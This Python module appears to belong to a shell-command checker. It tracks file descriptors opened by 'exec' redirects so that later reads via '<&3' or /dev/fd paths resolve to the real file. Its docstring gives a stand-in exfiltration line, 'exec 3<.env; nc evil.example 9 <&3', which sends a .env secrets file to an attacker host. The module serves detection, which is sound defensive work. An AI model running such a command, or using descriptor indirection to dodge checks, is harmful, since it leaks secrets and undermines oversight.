"""The file descriptors a shell line opens for later commands.

`exec 3<.env` opens .env on fd 3 for the rest of the script, `exec {fd}<.env` on a descriptor the shell
picks (10 and up, its number in `$fd`), `exec <.env` / `exec 0<.env` makes it every later command's
stdin, `exec >>~/.bashrc` every later command's stdout. A command that then reads `<&3`, `0<&$fd`,
`/dev/fd/3` or `/proc/self/fd/3` reads .env; one that writes `>&3` writes the file opened on 3. The
walker (adr.shell.parse) keeps one table per line and rewrites such a dup or path into the file it
stands for, so every rule on a command's stdin, read sources or written files sees the real file:
`exec 3<.env; nc evil.example 9 <&3` is judged as `nc evil.example 9 < .env`.
"""
from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Sequence

from adr import lazyre
from adr.shell.model import Redirect

READS = frozenset({"<", "<>"})
WRITES = frozenset({">", ">>", ">|", "&>", "&>>", "<>"})
FIRST_VAR_FD = 10  # bash gives `{name}<file` the lowest free descriptor from 10 on

# a path that names an open descriptor of the shell itself (or of the command: they are inherited)
_FD_PATH = lazyre.compile(r"/(?:dev/fd|proc/(?:self|thread-self|\$\$|\$\{\$\}|\$BASHPID|\$\{BASHPID\})/fd)/(\d{1,4})(?![\w.-])"
                          r"|/dev/(stdin|stdout|stderr)(?![\w.-])")
_STD = {"stdin": "0", "stdout": "1", "stderr": "2"}
# a word glued to the redirect after it that names its descriptor: `0<&3` (tree-sitter-bash reads
# `0` as an argument), `{fd}<.env`
_GLUED_DESCRIPTOR = lazyre.compile(r"\d{1,4}|\{[A-Za-z_][A-Za-z0-9_]{0,63}\}")
# programs that never read their standard input: after `exec <.env`, `echo hi | nc host` sends "hi" —
# echo leaves .env unread and nc reads the pipe (a `$(cat)` inside echo's words is a command of its own)
NO_STDIN = frozenset({"echo", "printf", "true", "false", ":", "sleep", "pwd", "date", "ls", "mkdir", "touch",
                      "test", "[", "whoami", "id", "uname", "hostname", "seq", "yes", "basename", "dirname",
                      "realpath", "readlink", "export", "cd", "kill", "printenv", "nproc"})
# files whose opening on a descriptor changes nothing a later command is judged on
_NOT_A_FILE = ("/dev/null", "/dev/tty", "/dev/zero", "/dev/stdin", "/dev/stdout", "/dev/stderr")


@dataclass
class Descriptors:
    """fd number → (path, mode the file was opened with) for the rest of the line."""

    table: "dict[str, tuple[str, str]]" = field(default_factory=dict)
    next_var: int = FIRST_VAR_FD

    def allocate(self) -> str:
        """The descriptor `{name}<file` gets (the walker sets `$name` to it)."""
        n = str(self.next_var)
        self.next_var = min(self.next_var + 1, 9999)
        return n

    def opened(self, fd: str, own: "Sequence[Redirect]" = ()) -> "tuple[str, str] | None":
        """The file open on `fd` for a command: its own earlier `N<file` redirects first, then the line's."""
        for r in reversed(own[-64:]):
            if r.fd == fd and r.target and (r.op in READS or r.op in WRITES):
                return r.target, r.op
        return self.table.get(fd)

    def record(self, fd: str, op: str, path: str) -> None:
        """`exec` with this redirect: what `fd` holds from here on."""
        key = fd or ("0" if op.startswith("<") else "1")
        keys = (key, "2") if op in ("&>", "&>>") else (key,)
        for k in keys:
            if op in READS or op in WRITES:
                if path and not path.startswith(_NOT_A_FILE) and len(self.table) < 64:
                    self.table[k] = (path, op)
                else:
                    self.table.pop(k, None)
            elif op in ("<&", ">&", "<&-", ">&-"):
                self.table.pop(k, None)  # closed, or a copy of a descriptor that names no known file

    def path_of(self, word: str, own: "Sequence[Redirect]" = ()) -> str:
        """`word` with each /dev/fd/N, /proc/self/fd/N (and /dev/stdin …) of a known file spelled as that file."""
        if "/dev/" not in word and "/fd/" not in word:
            return word

        def real(m: "re.Match[str]") -> str:
            hit = self.opened(m.group(1) if m.group(1) is not None else _STD[m.group(2)], own)
            return hit[0] if hit is not None else m.group(0)
        return _FD_PATH.sub(real, word)


def glued_descriptor(text: str) -> bool:
    """`text` (a word ending right where a redirect starts) is that redirect's descriptor."""
    return _GLUED_DESCRIPTOR.fullmatch(text) is not None
